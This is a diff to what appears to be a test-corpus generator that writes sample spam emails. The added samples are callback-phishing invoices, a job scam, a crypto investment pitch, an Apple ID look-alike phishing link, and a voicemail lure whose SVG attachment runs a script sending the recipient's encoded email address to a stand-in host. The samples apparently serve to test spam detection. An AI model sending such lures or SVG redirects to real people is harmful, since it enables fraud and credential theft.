@@ -658,3 +658,35 @@ dk='<html><head><meta name="color-scheme" content="dark"><style>.wrap{background
 write(K,"l54-dark-theme-newsletter",[GRCV("185.141.24.12","mta12.skynotes.example"),dkim("skynotes.example","k1"),
  "From: Sky Notes <letters@skynotes.example>","To: ana.silva@example.com","Subject: The night sky in December","Date: Mon, 07 Dec 2026 05:00:00 +0000","Message-ID: <dec-2026@skynotes.example>"]+esp_headers("https://skynotes.example/unsubscribe?u=8812"),
  'Content-Type: text/html; charset="UTF-8"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n'+qp(dk))
+# ---- More modern spam (s17-s22): kinds the first set did not cover.
+K="spam"
+# S17 callback phishing from a bought domain, not webmail
+write(K,"s17-callback-own-domain",[XRCV("104.168.44.21","mail.orderdesk-billing.example"),dkim("orderdesk-billing.example","s1"),
+ "From: Order Desk <billing@orderdesk-billing.example>","To: ana.silva@example.com","Subject: Order Confirmation #INV-77120 - Payment Processed","Date: Mon, 07 Dec 2026 04:48:00 +0000","Message-ID: <o.77120@orderdesk-billing.example>"],
+ alt("Hello Customer,\n\nThank you for your purchase. Your payment of $489.99 for the Premium Tech Support annual plan has been processed and will appear on your statement within 24 hours.\n\nOrder ID: INV-77120\nAmount: $489.99\n\nIf you did not make this purchase or want to cancel and get a refund, please contact our support team immediately at +1 (888) 555-0147.\n\nThank you,\nOrder Desk\n",
+ '<html><body><p>Hello Customer,</p><p>Thank you for your purchase. Your payment of <b>$489.99</b> for the Premium Tech Support annual plan has been processed and will appear on your statement within 24 hours.</p><p>Order ID: INV-77120<br>Amount: $489.99</p><p>If you did not make this purchase or want to cancel and get a refund, please contact our support team immediately at <b>+1 (888) 555-0147</b>.</p><p>Thank you,<br>Order Desk</p></body></html>'))
+# S18 the lure in an attached PDF: a short note, the charge and the number in the file
+write(K,"s18-callback-in-pdf",[XRCV("209.85.220.44","mail-sor-f44.google.com"),dkim("gmail.com","20230601"),
+ "From: Accounts Team <invoices.accountsteam882@gmail.com>","To: ana.silva@example.com","Subject: Invoice attached #88231","Date: Mon, 07 Dec 2026 04:40:00 +0000","Message-ID: <CAPk2b@mail.gmail.com>"],
+ multi("mixed",[part('text/plain; charset="UTF-8"',"Please find your invoice attached.\n","7bit"),
+  attach("application/pdf","Invoice_88231.pdf",pdf(["INVOICE 88231","Total Device Protection renewal - 3 years","Amount charged: USD 399.99","If you did not authorize this payment call +1 (808) 555-0199","to cancel and get a full refund within 24 hours"]))]))
+# S19 remote job scam from webmail
+write(K,"s19-remote-job-scam",[XRCV("209.85.220.45","mail-sor-f45.google.com"),dkim("gmail.com","20230601"),
+ "From: HR Recruitment <talent.hr.recruit2026@gmail.com>","To: ana.silva@example.com","Subject: Part-time remote job: earn $300-$800 per day","Date: Mon, 07 Dec 2026 04:30:00 +0000","Message-ID: <CAJob7@mail.gmail.com>"],
+ alt("Hello,\n\nWe found your profile online and would like to offer you a flexible part-time position. You only need a smartphone and 60 minutes a day, no experience required.\n\nDaily salary: $300 - $800, paid the same day.\n\nTo apply, contact our recruiter on WhatsApp: +44 7700 900123 and say you are from the email.\n\nBest regards,\nHR Recruitment\n",
+ '<div>Hello,<br><br>We found your profile online and would like to offer you a flexible part-time position. You only need a smartphone and 60 minutes a day, no experience required.<br><br><b>Daily salary: $300 - $800, paid the same day.</b><br><br>To apply, contact our recruiter on WhatsApp: +44 7700 900123 and say you are from the email.<br><br>Best regards,<br>HR Recruitment</div>'))
+# S20 crypto investment pitch, authenticated bulk from its own domain
+write(K,"s20-crypto-investment-pitch",[XRCV("5.252.118.40","mta40.quantedge-capital.example"),dkim("quantedge-capital.example","q1"),
+ "From: QuantEdge Capital <invest@quantedge-capital.example>","To: ana.silva@example.com","Subject: Ana, our AI trading bot made 312% this year","Date: Mon, 07 Dec 2026 04:20:00 +0000","Message-ID: <qe.551@quantedge-capital.example>"]+esp_headers("https://quantedge-capital.example/unsub?e=ana.silva@example.com"),
+ alt("Ana,\n\nOur AI trading bot made 312% for its members this year. Start with just $250 and let the algorithm trade Bitcoin for you, 24/7. Members earn up to $1,200 per day with guaranteed profits.\n\nOnly 50 places left this month.\n\nOpen your account: https://quantedge-capital.example/start\n\nTrading involves risk.\n",
+ '<html><body><h2>Ana, our AI trading bot made 312% this year</h2><p>Start with just $250 and let the algorithm trade Bitcoin for you, 24/7. Members earn up to $1,200 per day with guaranteed profits.</p><p><b>Only 50 places left this month.</b></p><p><a href="https://quantedge-capital.example/start">Open your account</a></p><p style="font-size:10px">Trading involves risk. <a href="https://quantedge-capital.example/unsub?e=ana.silva@example.com">Unsubscribe</a></p></body></html>'))
+# S21 Apple ID locked, from a random domain, no brand in From, link to a look-alike
+write(K,"s21-apple-id-locked",[XRCV("38.180.60.2","mail.secure-notice-center.example"),
+ "From: Account Services <service@secure-notice-center.example>","To: ana.silva@example.com","Subject: Your Apple ID has been locked for security reasons","Date: Mon, 07 Dec 2026 04:15:00 +0000","Message-ID: <al.2@secure-notice-center.example>"],
+ alt("Dear Customer,\n\nYour Apple ID has been locked because of suspicious activity. To unlock your account, verify your identity within 24 hours, otherwise your account will be permanently disabled.\n\nUnlock now: https://appleid.apple.com.unlock-verify.example/signin\n\nApple Support\n",
+ '<html><body><p>Dear Customer,</p><p>Your Apple ID has been locked because of suspicious activity. To unlock your account, verify your identity within 24 hours, otherwise your account will be permanently disabled.</p><p><a href="https://appleid.apple.com.unlock-verify.example/signin">Unlock now</a></p><p>Apple Support</p></body></html>'))
+# S22 voicemail lure with an SVG attachment that redirects
+svg='<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href="https://vm-play.voice-msg.example/?u="+atob("YW5hLnNpbHZhQGV4YW1wbGUuY29t")</script></svg>'
+write(K,"s22-voicemail-svg",[XRCV("91.215.85.14","mail.telco-notify.example"),
+ "From: Voice Mail <voicemail@telco-notify.example>","To: ana.silva@example.com","Subject: New voicemail from +351 912 000 481 (0:42)","Date: Mon, 07 Dec 2026 04:05:00 +0000","Message-ID: <vm.14@telco-notify.example>"],
+ multi("mixed",[part('text/plain; charset="UTF-8"',"You have a new voice message (0:42). Open the attachment to listen.\n","7bit"),attach("image/svg+xml","VM_Play_0042.svg",svg)]))
